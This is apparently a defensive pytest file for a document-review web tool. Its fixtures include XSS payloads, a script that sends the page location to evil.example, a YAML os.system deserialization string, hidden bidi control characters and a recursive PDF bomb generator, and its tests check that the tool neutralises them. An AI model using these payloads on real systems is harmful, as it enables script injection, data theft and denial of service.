"""Documents and PDFs made to run something, to deceive a reader or to exhaust the machine, in a review."""

import io
import threading
import time
from hashlib import sha256

import pytest
from keyboard import Person
from reportlab.pdfgen.canvas import Canvas
from reviewed_reports import MEASURES, RELEASE
from running import Running

pytestmark = [
    pytest.mark.slow,
    pytest.mark.system,
    pytest.mark.needs("chromium", "install Chromium (Debian: chromium)"),
]

ID = "hostile"
SOURCE = """id: hostile
kind: report
title: "{title}"
publisher: Department of Beds
official_url: https://example.org
language: en
licence: Work of the United States Government
redistributable: true
text: whole
text_sha256: {text}
original_sha256: {original}
rendition: plain text
"""
TITLE = "<img src=x onerror=alert(1)> Beds {{7*7}} ${7*7}"
TEXT = f"""{TITLE}
<script>document.body.innerHTML = ""; fetch("https://evil.example/?" + location)</script> had 1,201 beds.
<img src=x onerror="window.hit = 1"> <svg onload="window.hit = 1"> <a href="javascript:window.hit=1">1,202</a> beds.
</textarea></option></select><input autofocus onfocus="window.hit = 1"> had 1,203 beds in " ' ` ]]> --> towns.
In 2019: {{ - &anchor *alias !!python/object/apply:os.system ["touch hit"] | > % @ # "had 1,204 beds": yes
- id: x
  value: !!binary 1205
The agency had 1,206 beds.
"""
"""Numbers among markup, handlers of events, templates and YAML."""


def hostile_project(root, text=TEXT, pdf=b"", figures="[]", **proposals):
    folder = root / "sources" / ID
    (folder / "proposals").mkdir(parents=True)
    (root / "release.yaml").write_text(RELEASE)
    (root / "sources/measures.yaml").write_text(MEASURES)
    (folder / "document.txt").write_bytes(text.encode())
    digests = {"text": sha256(text.encode()).hexdigest(), "original": sha256(pdf).hexdigest()}
    title = text.partition("\n")[0].replace('"', '\\"')
    (folder / "source.yaml").write_text(SOURCE.format(title=title[:200], **digests))
    figures = f"transcribed_by: software\nchecked_by: none\nfigures: {figures}\n"
    (folder / "figures.yaml").write_text(figures)
    for name, content in proposals.items():
        (folder / f"proposals/{name}.yaml").write_text(content)
    (root / "original.pdf").write_bytes(pdf)
    return root


def test_words_of_a_document_execute_nothing_and_are_shown_as_they_are(tmp_path, new_page):
    """Every piece of markup is text on the page, in fields and in messages; a decision writes YAML that is read back."""
    root = hostile_project(tmp_path)
    with Running(root, ID, "--person", "<b>O'Brien</b>") as running:
        page = new_page()
        requests = []
        page.on("request", lambda request: requests.append(request.url))
        person = Person(page).open(running.address)
        assert page.locator("#text").inner_text().count("<script>document.body") == 1
        assert "<b>O'Brien</b>" in page.locator("#title").inner_text()
        for token in ("1,201", "1,202", "1,204", "1,203"):
            person.go_to(token).press("f")
        quote = page.locator("#field-quote").input_value()
        assert "onfocus" in quote
        page.locator("#field-measure").fill("beds")
        page.locator("#field-population").fill("beds in \" ' ` ]]> --> towns")
        page.locator("#value-typed").fill("1203")
        person.press("Enter")
        assert page.evaluate(
            "[window.hit, document.querySelectorAll('#text img, #items img, svg').length]"
        ) == [None, 0]
        assert all(url.startswith(running.origin) for url in requests)
        written = (root / f"sources/{ID}/figures.yaml").read_text()
        assert "value: 1203" in written, person.findings
        assert not (root / "hit").exists()


UNSEEN = "The agency \u202ehad 1,207\u202c be\u200bds,\u2066 and \x1b[2J\x07 1,208\u2069 beds\u00ad in towns.\n"


def test_characters_that_nobody_sees_are_shown_as_signs(tmp_path, new_page):
    """The page says what the check finds, and no such character reaches a reader."""
    root = hostile_project(tmp_path, text=f"Beds of towns\n{UNSEEN}")
    with Running(root, ID) as running:
        page = new_page()
        Person(page).open(running.address)
        shown = page.locator("body").inner_text()
        assert not any(c in shown for c in "\u202e\u202c\u200b\u2066\u2069\x1b\x07\u00ad")
        assert "U+202E" in page.locator("#text").inner_text()
        assert "␛" in page.locator("#text").inner_text()
        assert (
            "U+202E is a mark that changes the direction" in page.locator("#findings").inner_text()
        )


@pytest.mark.full
def test_a_document_of_one_long_line_is_shown_in_parts(tmp_path, new_page):
    """A line of three million characters is cut; no part of the page grows with it."""
    words = "The agency had 12 beds. " + "x" * 3_000_000 + " It had 13 beds."
    root = hostile_project(tmp_path, text=f"Beds\n{words}\n")
    with Running(root, ID) as running:
        begun = time.monotonic()
        _, _, content = running.ask("review")
        assert len(content) < 200_000
        person = Person(new_page()).open(running.address)
        person.press("n")
        person.page.locator("#items .here .token", has_text="13").wait_for()
        assert time.monotonic() - begun < 30


@pytest.mark.full
def test_fifty_thousand_numerals_are_reviewed_in_parts(tmp_path, new_page):
    lines = [f"In town {n} of them, the agency had {n + 3:,} beds." for n in range(25_000)]
    root = hostile_project(tmp_path, text="Beds\n" + "\n".join(lines) + "\n")
    with Running(root, ID) as running:
        status, _, content = running.ask("review")
        assert status == 200
        assert len(content) < 500_000
        person = Person(new_page()).open(running.address)
        assert person.done[1] == 50_000
        begun = time.monotonic()
        person.press("PageDown")
        assert time.monotonic() - begun < 2
        answers = []
        thread = threading.Thread(
            target=lambda: answers.append(running.decide("waive", "n13", reason="list number"))
        )
        thread.start()
        while thread.is_alive():
            asked = time.monotonic()
            assert running.ask("review.css")[0] == 200
            assert time.monotonic() - asked < 5
            time.sleep(0.2)
        assert len(answers) == 1


def bomb(levels=9, width=10):
    """A PDF of one page that draws a form that draws ten forms that draw ten forms, and so on."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>",
        b"<</Length 5>>stream\n/X Do\nendstream",
    ]
    for level in range(levels):
        content = b"/X Do\n" * width if level < levels - 1 else b"0 0 600 700 re f\n" * 1000
        below = b"/Resources<</XObject<</X %d 0 R>>>>" % (6 + level)
        head = b"<</Type/XObject/Subtype/Form/BBox[0 0 612 792]%s/Length %d>>" % (
            below,
            len(content),
        )
        objects.append(head + b"stream\n" + content + b"\nendstream")
    objects.append(b"<<>>")
    body = b"%PDF-1.4\n"
    for number, one in enumerate(objects, 1):
        body += b"%d 0 obj%s\nendobj\n" % (number, one)
    return body + b"trailer<</Size %d/Root 1 0 R>>\n%%%%EOF" % (len(objects) + 1)


def poster():
    """A PDF whose page is five meters wide."""
    content = io.BytesIO()
    canvas = Canvas(content, pagesize=(14_400, 14_400))
    canvas.drawString(72, 72, "1,206 beds")
    canvas.save()
    return content.getvalue()


def test_a_page_of_a_posters_size_is_drawn_small(tmp_path):
    root = hostile_project(tmp_path, pdf=poster())
    with Running(root, ID, "--pdf", str(root / "original.pdf")) as running:
        assert running.get("pages/1.json") == {"width": 14_400, "height": 14_400}
        _, _, png = running.ask("pages/1.png")
        width = int.from_bytes(png[16:20], "big")
        assert 2_000 < width < 2_600
        assert "has no page 2" in running.get("pages/2.json")["refused"]
        assert running.ask("pages/2.png")[0] == 404
        assert running.ask("pages/-1.png")[0] == 404
        assert running.ask("pages/99999999999999999999.json")[0] == 200


@pytest.mark.full
def test_a_pdf_bomb_ends_its_own_process_only(tmp_path):
    """The page is refused with words once its time is up; the server answers all the while."""
    root = hostile_project(tmp_path, pdf=bomb())
    with Running(root, ID, "--pdf", str(root / "original.pdf")) as running:
        answers = []
        thread = threading.Thread(target=lambda: answers.append(running.get("pages/1.json")))
        thread.start()
        longest = 0.0
        begun = time.monotonic()
        while thread.is_alive():
            asked = time.monotonic()
            assert running.ask("review?cached")[0] == 200
            longest = max(longest, time.monotonic() - asked)
            time.sleep(0.5)
        assert "more memory or time than a page may" in answers[0]["refused"]
        assert longest < 5
        assert time.monotonic() - begun < 60
        begun = time.monotonic()
        assert "refused" in running.get("pages/1.json")
        assert time.monotonic() - begun < 1
